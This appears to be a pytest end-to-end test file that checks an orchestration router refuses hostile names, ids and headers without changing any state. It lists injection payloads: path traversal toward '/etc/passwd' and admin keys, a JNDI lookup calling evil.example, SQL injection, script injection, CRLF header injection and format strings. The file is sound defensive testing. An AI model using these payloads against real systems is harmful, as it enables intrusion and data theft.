"""Hostile names and ids, wherever a request names something: refused with a problem, and nothing is changed."""

import pytest
from raw_http import request, send_one
from version_package import zip_version

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(240)]

PACKAGE = zip_version("1.0.0")
PAYLOADS = {
    "dots": "..",
    "dots and slash": "../../admin/host/keys",
    "dots, encoded": "%2e%2e",
    "dots and slash, encoded": "%2e%2e%2f%2e%2e%2fadmin%2fhost%2fkeys",
    "dots, encoded twice": "%252e%252e%252fadmin",
    "dots, encoded three times": "%25252e%25252e%25252fadmin",
    "dots with a backslash": "..%5c..%5cadmin",
    "dots with a path parameter": "..;/admin",
    "dots in overlong UTF-8": "%c0%ae%c0%ae%c0%afadmin",
    "one dot": ".",
    "an absolute path": "%2fetc%2fpasswd",
    "a URL": "http:%2f%2fevil.example%2f",
    "NUL": "a%00b",
    "NUL at the end": "1.0%00",
    "a line break": "a%0d%0aX-Evil:%201",
    "a line feed": "1.0%0a",
    "a bell": "a%07",
    "DEL": "a%7f",
    "no UTF-8": "a%ff%fe",
    "a lone surrogate": "a%ed%a0%80",
    "broken escape": "a%zz",
    "half an escape": "a%2",
    "a query in the path": "a%3fcode=1",
    "a fragment in the path": "a%23b",
    "a space": "%20",
    "spaces around": "%201.0%20",
    "fullwidth digits": "%EF%BC%91.%EF%BC%90",
    "Arabic digits": "%D9%A1.%D9%A0",
    "a Cyrillic letter": "h%D0%BEstile",
    "a Kelvin sign": "%E2%84%AA",
    "a dotless i": "host%C4%B1le",
    "right to left": "%E2%80%AE0.1",
    "a zero-width space": "hostile%E2%80%8B",
    "a quote for SQL": "a'%20OR%20'1'='1",
    "a script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "a template": "%7B%7B7*7%7D%7D",
    "a variable": "$%7Bjndi:ldap:%2F%2Fevil.example%7D",
    "a format": "%25s%25n",
    "overlong": "a" * 3000,
    "overlong digits": "1" * 3000,
    "many dots": "1." * 1500,
}
NEW_ID = "/api/hostile/orchestrations/echo/{}"
POSITIONS = {
    "application of a start": ("client", "POST", "/api/{}/orchestrations/echo"),
    "application of a change": ("admin", "POST", "/api/{}/rollback"),
    "version of a start": ("client", "POST", "/api/hostile/v/{}/orchestrations/echo"),
    "version in the query": ("client", "POST", "/api/hostile/orchestrations/echo?version={}"),
    "name": ("client", "POST", "/api/hostile/orchestrations/{}"),
    "new id": ("client", "POST", NEW_ID),
    "id of a status": ("client", "GET", "/api/hostile/instances/{}"),
    "id of a command": ("client", "POST", "/api/hostile/instances/{}/terminate"),
    "id of a purge": ("client", "DELETE", "/api/hostile/instances/{}"),
    "event": ("client", "POST", "/api/hostile/instances/1.0~nobody/raiseEvent/{}"),
    "line": ("admin", "POST", "/api/hostile/lines/{}/promote"),
    "version of a release": ("release", "PUT", "/api/hostile/releases/{}"),
    "token of a query": ("client", "GET", "/api/hostile/instances?continuationToken={}"),
    "operation": ("release", "GET", "/api/hostile/releases/1.0.0?operation={}"),
    "generation": ("admin", "POST", "/api/hostile/lines/1.0/keep?generation={}"),
    "version of a pass-through": ("client", "GET", "/api/hostile/v/{}/http/about"),
}
SAFE_HERE = {
    # An id may have these: it is nobody's to begin with, so a start would make it.
    ("new id", "one dot"),
    ("new id", "dots"),
    ("new id", "dots, encoded"),
    ("new id", "many dots"),
    # Spaces around a version mean nothing, as around a header's value.
    ("version of a start", "spaces around"),
    ("version of a pass-through", "spaces around"),
    ("version in the query", "spaces around"),
}
CASES = {
    f"{position}: {what}": (*called, payload)
    for position, called in POSITIONS.items()
    for what, payload in PAYLOADS.items()
    if (position, what) not in SAFE_HERE
}


@pytest.fixture(scope="module")
def router(open_router):
    made = open_router("hostile")
    made.deploy("1.0.0", PACKAGE)
    return made


def everything(router):
    """What a hostile request could have changed."""
    routes = router.call("admin", "GET", f"{router.url}/api/routes").json()
    return routes, router.call("client", "GET", "/instances", params={"top": 1000}).json()


@pytest.fixture(scope="module")
def packages(stack):
    return lambda: sorted(path.name for path in stack.state_dir.rglob("packages/hostile/*"))


@pytest.fixture(autouse=True, scope="module")
def unchanged(router, packages):
    before = everything(router), packages()
    assert before[1]
    yield
    assert (everything(router), packages()) == before


def ask(router, role, method, target, **headers):
    body = PACKAGE if method == "PUT" else b""
    data = request(method, target, headers={"x-functions-key": router.keys[role], **headers}, body=body)
    return send_one(router.url, data)


@pytest.mark.parametrize(("role", "method", "template", "payload"), CASES.values(), ids=CASES)
def test_a_hostile_name_is_refused(router, role, method, template, payload):
    answer = ask(router, role, method, template.format(payload))
    assert 400 <= answer.status < 500, answer
    # Some paths are another route, or none: those the router never sees.
    assert answer.problem or answer.status in {400, 404, 405, 414}, answer
    assert b"Traceback" not in answer.body
    assert "x-evil" not in answer.headers


@pytest.mark.parametrize("payload", [p for p in PAYLOADS.values() if not p.startswith("a" * 99)], ids=lambda p: p[:30])
def test_a_pass_through_never_leaves_the_apps_own_triggers(router, payload):
    answer = ask(router, "client", "GET", f"/api/hostile/v/1.0/http/{payload}")
    assert 400 <= answer.status < 500, answer
    assert b"master" not in answer.body
    answer = ask(router, "client", "GET", f"/api/hostile/v/1.0/http/about/{payload}")
    assert answer.status in {200, 400, 404}, answer


HEADERS = {
    "X-Version": ["..", "１.０".encode(), b"\xff\xfe", "1" * 3000, "1.0, 1.1", "~=1.0,~=9", "[1.0]", "1.0;DROP"],
    "Idempotency-Key": [" a b ", "é".encode(), "x" * 256, b"\x80", "a\tb"],
    "If-Match": ["..", '"١"'.encode(), '"1e3"', "W/", '"-1"', "9" * 400],
    "X-Package-SHA256": ["..", "0" * 63, "g" * 64, "０".encode() * 64],
}
HEADER_CASES = [(name, value) for name, values in HEADERS.items() for value in values]


@pytest.mark.parametrize(("name", "value"), HEADER_CASES, ids=lambda value: str(value)[:24])
def test_a_hostile_header_is_refused(router, name, value):
    role, method, path = {
        "If-Match": ("admin", "POST", "/api/hostile/lines/1.0/keep"),
        "X-Package-SHA256": ("release", "PUT", "/api/hostile/releases/1.0.0"),
    }.get(name, ("client", "POST", "/api/hostile/orchestrations/echo"))
    answer = ask(router, role, method, path, **{name: value})
    assert 400 <= answer.status < 500, answer
    assert answer.problem or answer.status == 400, answer
